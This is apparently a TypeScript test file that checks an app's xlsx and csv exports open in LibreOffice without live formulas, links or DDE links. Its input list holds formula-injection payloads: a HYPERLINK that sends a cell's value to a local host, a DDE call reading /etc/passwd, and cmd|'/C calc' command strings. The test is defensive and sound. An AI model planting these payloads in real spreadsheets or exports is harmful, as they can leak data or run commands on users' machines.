// Exported texts that look like formulas stay texts in LibreOffice, where `LIBREOFFICE_PATH` names one.

import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { ExportProgress } from '#model/entity/sheets.ts'
import { openWorkbook } from '#records/sheets/openWorkbook.ts'
import { startApp, type TestApp } from '../support/startApp.ts'

const PROGRAM = process.env.LIBREOFFICE_PATH ?? ''
const JOBS = '/api/gantry-jobs'
const ROOT = '/api/site/remark'
const REMARK = {
  name: 'remark',
  title: '备注',
  route: '/site/remark',
  api: ROOT,
  menu: { directory: 'site', sort: 99 },
  export: true,
  properties: { text: { title: '=1+1' }, second: { title: '@说明' } },
}
/** Starts of formulas in the notations of Excel, LibreOffice and Lotus. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")',
  '=WEBSERVICE("http://127.0.0.1:9/")',
  '=DDE("soffice","/etc/passwd","A1")',
  "=cmd|'/C calc'!A0",
  'of:=1+1',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1;1)',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '＋1+1',
  '{=1+1}',
  '=1+1;=2+2',
  '",=1+1',
  '1\n=1+1',
  '\u200b=1+1',
  '  =1+1',
]

describe.skipIf(PROGRAM === '')('LibreOffice', () => {
  let app: TestApp
  let folder: string
  let stored: string[]
  beforeAll(async () => {
    app = await startApp({ files: { 'site/remark.json': REMARK } })
    folder = await mkdtemp(join(tmpdir(), 'gantry-office-'))
    const admin = await app.api()
    for (const text of FORMULAS) expect((await admin(`POST ${ROOT}/submit`, { body: { text, second: text } })).status, text).toBe(200)
    const { body } = await admin(`GET ${ROOT}/list`, { query: { size: 100 } })
    stored = (body.data as { records: { text: string }[] }).records.map(({ text }) => text)
  })
  afterAll(async () => {
    await app.close()
    await rm(folder, { recursive: true, force: true })
  })

  test.each(['xlsx', 'csv'])('opens an exported %s file without a formula or a link', async (kind) => {
    const file = join(folder, `export.${kind}`)
    await writeFile(file, await exported(kind))
    await convert(file, 'fods')
    const sheet = await readFile(join(folder, 'export.fods'), 'utf8')
    expect(sheet.match(/table:formula="[^"]*"|xlink:href="[^"]*"|<table:dde-link/g)).toBeNull()
    expect(sheet.match(/<table:table-row/g)?.length).toBeGreaterThan(FORMULAS.length)
    expect(stored).toHaveLength(FORMULAS.length)
  })

  test('saves an exported workbook that gives the stored texts back', async () => {
    await writeFile(join(folder, 'first.xls'), await exported('xlsx'))
    await convert(join(folder, 'first.xls'), 'xlsx')
    const file = openWorkbook(await readFile(join(folder, 'first.xlsx')), 1_000, [])
    if (typeof file === 'string') throw new Error(file)
    expect((file.sheets[0] ?? []).slice(1).map(([text]) => text)).toEqual(stored)
  })

  async function exported(kind: string): Promise<Buffer> {
    const admin = await app.api()
    const { body } = await admin(`POST ${ROOT}/export-job`, { body: { kind } })
    const { job } = body.data as ExportProgress
    const state = async () => ((await admin(`GET ${JOBS}/progress`, { query: { job } })).body.data as ExportProgress).state
    await expect.poll(state, { timeout: 30_000 }).toBe('done')
    return (await admin(`GET ${JOBS}/file`, { query: { job } })).bytes
  }

  async function convert(file: string, format: string): Promise<void> {
    const profile = pathToFileURL(join(folder, 'profile')).href
    await promisify(execFile)(PROGRAM, [`-env:UserInstallation=${profile}`, '--headless', '--convert-to', format, '--outdir', folder, file])
  }
})
